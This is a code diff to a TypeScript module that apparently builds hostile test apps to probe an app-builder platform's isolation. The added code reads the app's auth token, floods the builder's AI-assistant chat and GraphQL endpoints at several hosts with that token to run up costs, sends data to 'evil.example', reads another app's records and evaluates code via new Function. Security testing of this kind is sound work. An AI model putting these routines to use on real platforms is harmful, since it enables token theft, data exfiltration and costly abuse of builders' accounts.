@@ -22,6 +22,8 @@ export function hostileFiles(targets: Targets): Record<string, Record<string, st
 export default function Preview() { return <Attempts attacks={previewAttacks}/>; }`,
       Published: `import { publishedAttacks } from '@/services/published';\nimport Attempts from '@/components/Attempts';
 export default function Published() { return <Attempts attacks={publishedAttacks}/>; }`,
+      Enter: `import { User } from '@/entities/User';
+export default function Enter() { return <button onClick={() => User.login('/published')}>Log in</button>; }`,
       Ask: `import { useEffect } from 'react';
 const ask = () => { for (let i = 0; i < 50; i++) window.sayso.sendChatMessage('Spend it all ' + i); };
 export default function Ask() {
@@ -35,9 +37,9 @@ export default function Forever() { useEffect(() => { setTimeout(() => { console
     },
     components: { Attempts: ATTEMPTS },
     services: {
-      preview: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PREVIEW}`,
+      preview: `import { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PREVIEW}`,
       bare: 'export const address = import.meta.url;',
-      published: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PUBLISHED}`,
+      published: `import { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PUBLISHED}`,
     },
     entities: { Note: NOTE },
   };
@@ -66,6 +68,7 @@ export default function Attempts({ attacks }) {
   return results && <pre id="results">{JSON.stringify(results)}</pre>;
 }`;
 
+const SEND = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { id } }';
 const COMMON = `
 /** The token that the app's own calls carry. */
 async function stolenToken() {
@@ -101,10 +104,22 @@ const socket = (url) => new Promise((resolve, reject) => {
   opened.onopen = () => resolve('open');
   opened.onerror = () => reject(new DOMException('', 'SocketRefused'));
 });
+/** Messages to the assistant are what costs the builder something: asked for with the app's own token, at every host that might take it. */
 async function spend() {
+  const authorization = await stolenToken();
+  const { appId } = JSON.parse((document.getElementById('sayso-app') ?? document.getElementById('sayso-preview')).textContent);
+  const calls = (host) => [
+    [host + '/api/apps/' + appId + '/chat', { messages: [{ role: 'user', content: 'Spend it all' }] }],
+    [host + '/graphql', { query: ${JSON.stringify(SEND)}, variables: { input: { appId, content: 'Spend it all', clientId: crypto.randomUUID() } } }],
+  ];
   let granted = 0;
-  await Promise.all(Array.from({ length: 60 }, () => InvokeLLM({ prompt: 'Count to a million' }).then(() => { granted++; }, () => {})));
-  return granted;
+  const tries = ['', builderUrl, runtimeUrl].flatMap(calls).flatMap((call) => Array(10).fill(call));
+  await Promise.all(tries.map(async ([url, body]) => {
+    const options = { method: 'POST', headers: { 'content-type': 'application/json', authorization }, body: JSON.stringify(body) };
+    const answer = await fetch(url, options).catch(() => null);
+    if (answer?.ok && !/"errors"/.test(await answer.text())) granted++;
+  }));
+  return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + granted;
 }
 `;
 
@@ -194,8 +209,8 @@ export const publishedAttacks = {
   elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
   otherApp: async () => {
     const authorization = await stolenToken();
-    const asWhom = authorization ? { headers: { authorization } } : {};
-    return (await fetch('/live_api/apps/' + otherAppId + '/entities/Note', asWhom)).status;
+    const { status } = await fetch('/live_api/apps/' + otherAppId + '/entities/Note', { headers: { authorization } });
+    return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + status;
   },
   evaluate: () => new Function('return 1')(),
   spend,
